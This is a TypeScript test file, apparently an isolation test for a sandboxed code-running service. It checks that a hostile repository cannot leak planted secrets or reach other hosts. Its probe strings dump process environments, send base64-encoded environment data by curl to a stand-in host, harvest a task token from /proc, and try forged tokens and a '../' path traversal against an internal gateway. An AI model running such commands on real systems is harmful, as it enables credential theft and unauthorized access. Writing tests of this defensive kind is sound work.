import { afterAll, beforeAll, expect, it } from 'vitest';
import { type Engine, startEngine } from '../../dev/containers/engine.ts';
import { prepareContainers } from '../../dev/containers/prepare.ts';
import {
  type Probing,
  expectNothingElse,
  expectRefusalsToBeNamed,
  startProbing,
} from '../harness/egress-probing.ts';
import { ON_ANY, RAN, pushHostile } from '../harness/hostile-repository.ts';
import { plantedIn, plantedSecrets } from '../harness/planted.ts';

const DONE_MS = 280_000;
const AT_ONCE_S = 1;
/** What the stand-in for the platform's name service says of every name. */
const NAME_SERVICE = '11.0.0.1';
/** Whom the repository's own programs would ask, and whom the worker asks. */
const [EVIL, ASKED] = ['evil.example', 'asked.example'];

/** Whatever of the repository has run left a file, somewhere; the pattern is not written out, so that this is no hit. */
const LEFT = `echo "LEFT:$(find / -xdev -name "$(printf ${RAN.slice(0, 7)})${RAN.slice(7)}*" 2>/dev/null | tr '\\n' ' '):END"`;

/** The environment of everything that runs in the container, and where links lead. */
const LOOK = `cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | sort -u | head -c 20000; head -c 3000 environ.txt | tr '\\0' '\\n'; ls -la /root /home ~ etc/ up/ 2>&1 | head -c 5000; curl -sm 5 https://${ASKED}/$(env | base64 -w0 | head -c 500); true`;

/** The gateway with the task's own token, for what is not the task's: each with its status and its time. */
const GATEWAY = `T=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | sed -n 's/^MAINLOOP_TASK_TOKEN=//p' | head -1)
ask() { printf 'ASKED %s %s\\n' "$1" "$(curl -s -m 5 -o /dev/null -w '%{http_code} %{time_total}' --path-as-is -H "Authorization: Bearer $2" "http://gateway.internal$3")"; }
ask own "$T" /gateway/brief
ask nobody none /gateway/brief
ask task "$(echo "$T" | sed 's/^mlt[.][0-9a-f]*/mlt.${'0'.repeat(64)}/')" /gateway/brief
ask generation "$(echo "$T" | sed 's/[.]1[.]/.2./')" /gateway/brief
ask repository "$T" '/gateway/git/acme/site.git/info/refs?service=git-upload-pack'
ask attachment "$T" /gateway/attachments/01ARZ3NDEKTSV4RRFFQ69G5FAV
ask api "$T" /api/health
ask above "$T" /gateway/../api/health`;

let engine: Engine;
let probing: Probing;

beforeAll(async () => {
  prepareContainers((text) => console.log(text));
  engine = await startEngine(`/tmp/mainloop-engine-${process.pid}`, () => {});
  probing = await startProbing({
    packages: 1,
    withinMs: DONE_MS,
    containers: engine.variables,
    before: (stack) => pushHostile(stack, `http://${EVIL}`),
    commands: [...ON_ANY, LEFT, LOOK, GATEWAY],
  });
});

afterAll(async () => {
  // Throws where a planted secret was found.
  await probing?.stop();
  await engine?.stop();
});

it('nothing of a hostile repository runs by itself in a container', async () => {
  const left = /LEFT:(?<files>[^$:]*):END/.exec(probing.bodies.at(-1) ?? '')?.groups?.files;
  expect(left?.trim()).toBe('');
  const named = await expectRefusalsToBeNamed(probing.stack, probing.taskId);
  expect(named).not.toContain(EVIL);
  expect(named).toContain(ASKED);
});

it('no planted secret comes to where its worker looks, nor into anything that is kept', async () => {
  const sent = probing.bodies.join('\n');
  // It has seen the environments.
  expect(sent).toContain('MAINLOOP_GATEWAY=http://gateway.internal/gateway');
  for (const secret of plantedSecrets(probing.stack)) {
    expect(sent).not.toContain(secret);
    expect(probing.registry.asked.join('\n')).not.toContain(secret);
  }
  expect(await plantedIn(probing.stack)).toEqual([]);
});

it('its own token opens nothing that is another’s, and is told so at once', () => {
  const asked = [...(probing.bodies.at(-1) ?? '').matchAll(/ASKED (\w+) (\d{3}) ([\d.]+)/g)];
  expect(Object.fromEntries(asked.map(([, what, status]) => [what, status]))).toEqual({
    own: '200',
    nobody: '401',
    task: '401',
    generation: '401',
    repository: '403',
    attachment: '404',
    api: '404',
    above: '404',
  });
  expect(probing.stack.logged()).toMatch(/"gateway.git_refused".*"repository":"acme\/site"/);
  expect(asked.filter(([, , , seconds]) => Number(seconds) >= AT_ONCE_S)).toEqual([]);
});

it('reaches nothing else: no address, no machine around it, by no protocol, and is told so at once', () => {
  const { found } = probing;
  expectNothingElse(found, NAME_SERVICE);
  for (const tried of [
    'raw TCP over IPv6',
    'raw UDP over IPv6',
    'a raw socket',
    'a frame of its own',
  ]) {
    expect([tried, found[tried]?.ok]).toEqual([tried, false]);
  }
  // The product and Postgres at the machine's own address, too.
  const around = Object.keys(found).filter((name) => /^(?:the product|Postgres), at /.test(name));
  expect(around).toHaveLength(4);
});
